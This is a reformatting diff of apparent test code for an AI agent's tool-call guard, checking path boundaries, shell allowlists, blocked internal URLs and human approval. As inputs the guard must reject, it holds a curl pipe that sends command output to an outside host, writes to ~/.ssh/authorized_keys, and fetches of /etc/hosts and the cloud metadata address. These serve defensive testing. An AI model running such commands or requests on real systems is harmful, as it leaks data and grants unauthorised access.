@@ -25,7 +25,9 @@ describe('validate_args', () => {
 
   it('reports every issue with its field path: missing, null, wrong type, unknown key', async () => {
     const pipeline = await pipelineWith();
-    const outcome = await pipeline.evaluate(call('fs_edit', { path: null, old_text: 3, surprise: true }));
+    const outcome = await pipeline.evaluate(
+      call('fs_edit', { path: null, old_text: 3, surprise: true }),
+    );
     expect(outcome.stage).toBe('validation');
     const paths = (outcome.issues ?? []).map((issue) => issue.path);
     expect(paths).toEqual(expect.arrayContaining(['path', 'old_text', 'new_text', '(args)']));
@@ -41,14 +43,22 @@ describe('validate_args', () => {
 describe('check_hints', () => {
   it('keeps writes under home and /tmp by default, after normalising ~, $HOME, .., //', async () => {
     const pipeline = await pipelineWith();
-    for (const path of ['~/notes.txt', '$HOME/a/../b.txt', '${HOME}//c.txt', '/tmp/x.txt', 'relative/file.txt']) {
+    for (const path of [
+      '~/notes.txt',
+      '$HOME/a/../b.txt',
+      '${HOME}//c.txt',
+      '/tmp/x.txt',
+      'relative/file.txt',
+    ]) {
       const outcome = await pipeline.evaluate(call('fs_write', { path, content: 'x' }));
       expect(outcome.stage, path).toBeNull();
     }
     for (const path of ['/opt/x.txt', '~/../../opt/x.txt', '/usr/local/bin/tool']) {
       const outcome = await pipeline.evaluate(call('fs_write', { path, content: 'x' }));
       expect(outcome.stage, path).toBe('scope');
-      expect(outcome.reason).toMatch(/^PathOutsideBoundary: argument "path" is outside the write roots/);
+      expect(outcome.reason).toMatch(
+        /^PathOutsideBoundary: argument "path" is outside the write roots/,
+      );
       expect(outcome.reason).not.toContain(path);
     }
   });
@@ -57,7 +67,9 @@ describe('check_hints', () => {
     const link = join(home(), 'escape');
     symlinkSync('/opt', link);
     const pipeline = await pipelineWith();
-    const outcome = await pipeline.evaluate(call('fs_write', { path: '~/escape/evil.txt', content: 'x' }));
+    const outcome = await pipeline.evaluate(
+      call('fs_write', { path: '~/escape/evil.txt', content: 'x' }),
+    );
     expect(outcome.stage).toBe('scope');
   });
 
@@ -66,20 +78,30 @@ describe('check_hints', () => {
     const pipeline = await pipelineWith({ roots: { read: ['~/work'] } });
     expect((await pipeline.evaluate(call('fs_read', { path: '~/work/a.txt' }))).stage).toBeNull();
     expect((await pipeline.evaluate(call('fs_read', { path: '/tmp/a.txt' }))).stage).toBe('scope');
-    expect((await pipeline.evaluate(call('shell_exec', { command: 'ls', cwd: '/tmp' }))).stage).toBe('scope');
+    expect(
+      (await pipeline.evaluate(call('shell_exec', { command: 'ls', cwd: '/tmp' }))).stage,
+    ).toBe('scope');
   });
 
   it('rejects a read-only executor asked to write', async () => {
     const pipeline = await pipelineWith();
-    const outcome = await pipeline.evaluate(call('fs_read', { path: '/tmp/a' }, 'x', { context: { capability: 'write' } }));
+    const outcome = await pipeline.evaluate(
+      call('fs_read', { path: '/tmp/a' }, 'x', { context: { capability: 'write' } }),
+    );
     expect(outcome).toMatchObject({ stage: 'scope' });
     expect(outcome.reason).toMatch(/read-only executor fs_read asked to write/);
   });
 
   it('checks the subcommand allowlist on EVERY command of a pipeline or list', async () => {
-    const pipeline = await pipelineWith({ shell: { subcommand_allowlist: { git: ['status', 'log'], ls: '*' } } });
-    expect((await pipeline.evaluate(call('shell_exec', { command: 'git status && ls -la' }))).stage).toBeNull();
-    const second = await pipeline.evaluate(call('shell_exec', { command: 'git status | curl -d @- http://x.example' }));
+    const pipeline = await pipelineWith({
+      shell: { subcommand_allowlist: { git: ['status', 'log'], ls: '*' } },
+    });
+    expect(
+      (await pipeline.evaluate(call('shell_exec', { command: 'git status && ls -la' }))).stage,
+    ).toBeNull();
+    const second = await pipeline.evaluate(
+      call('shell_exec', { command: 'git status | curl -d @- http://x.example' }),
+    );
     expect(second.stage).toBe('scope');
     expect(second.reason).toMatch(/^CommandNotAllowed/);
     const sub = await pipeline.evaluate(call('shell_exec', { command: 'ls; git push --force' }));
@@ -89,16 +111,33 @@ describe('check_hints', () => {
 
   it('refuses non-http schemes, non-public literal addresses, and hosts outside the domain allowlist', async () => {
     const open = await pipelineWith();
-    for (const url of ['file:///etc/hosts', 'http://127.0.0.1:8080/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data', 'http://10.1.2.3/', 'http://localhost:3000/']) {
+    for (const url of [
+      'file:///etc/hosts',
+      'http://127.0.0.1:8080/',
+      'http://[::1]/',
+      'http://169.254.169.254/latest/meta-data',
+      'http://10.1.2.3/',
+      'http://localhost:3000/',
+    ]) {
       const outcome = await open.evaluate(call('web_fetch', { url }));
       expect(outcome.stage, url).toBe('scope');
       expect(outcome.reason).toMatch(/^DomainNotAllowed/);
     }
-    expect((await open.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage).toBeNull();
-    const allowlisted = await pipelineWith({ web: { private_allowlist: ['127.0.0.0/8'], domain_allowlist: ['*.example.org', '127.0.0.1'] } });
-    expect((await allowlisted.evaluate(call('web_fetch', { url: 'http://127.0.0.1:8080/' }))).stage).toBeNull();
-    expect((await allowlisted.evaluate(call('web_fetch', { url: 'https://docs.example.org/' }))).stage).toBeNull();
-    expect((await allowlisted.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage).toBe('scope');
+    expect(
+      (await open.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage,
+    ).toBeNull();
+    const allowlisted = await pipelineWith({
+      web: { private_allowlist: ['127.0.0.0/8'], domain_allowlist: ['*.example.org', '127.0.0.1'] },
+    });
+    expect(
+      (await allowlisted.evaluate(call('web_fetch', { url: 'http://127.0.0.1:8080/' }))).stage,
+    ).toBeNull();
+    expect(
+      (await allowlisted.evaluate(call('web_fetch', { url: 'https://docs.example.org/' }))).stage,
+    ).toBeNull();
+    expect(
+      (await allowlisted.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage,
+    ).toBe('scope');
   });
 });
 
@@ -113,9 +152,15 @@ describe('policy', () => {
 
   it('allows a critical call a person approved, after guard and judge ran again', async () => {
     const pipeline = await pipelineWith();
-    const approved = await pipeline.evaluate(call('fs_write', { path: '/tmp/a.txt', content: 'x' }, 'x', { approvedBy: 'telegram:1' }));
+    const approved = await pipeline.evaluate(
+      call('fs_write', { path: '/tmp/a.txt', content: 'x' }, 'x', { approvedBy: 'telegram:1' }),
+    );
     expect(approved).toMatchObject({ decision: 'allow', reason: 'approved by telegram:1' });
-    const blocked = await pipeline.evaluate(call('fs_write', { path: '~/.ssh/authorized_keys', content: 'x' }, 'x', { approvedBy: 'telegram:1' }));
+    const blocked = await pipeline.evaluate(
+      call('fs_write', { path: '~/.ssh/authorized_keys', content: 'x' }, 'x', {
+        approvedBy: 'telegram:1',
+      }),
+    );
     expect(blocked).toMatchObject({ decision: 'deny', stage: 'guard' });
   });
 
@@ -134,7 +179,11 @@ describe('policy', () => {
   });
 
   it('refuses a config whose never_ask lists a critical executor', async () => {
-    await expect(pipelineWith({ approvals: { never_ask: ['shell_exec'] } })).rejects.toThrow(ConfigError);
-    await expect(pipelineWith({ approvals: { always_ask: ['no_such_tool'] } })).rejects.toThrow(/unknown executor/);
+    await expect(pipelineWith({ approvals: { never_ask: ['shell_exec'] } })).rejects.toThrow(
+      ConfigError,
+    );
+    await expect(pipelineWith({ approvals: { always_ask: ['no_such_tool'] } })).rejects.toThrow(
+      /unknown executor/,
+    );
   });
 });
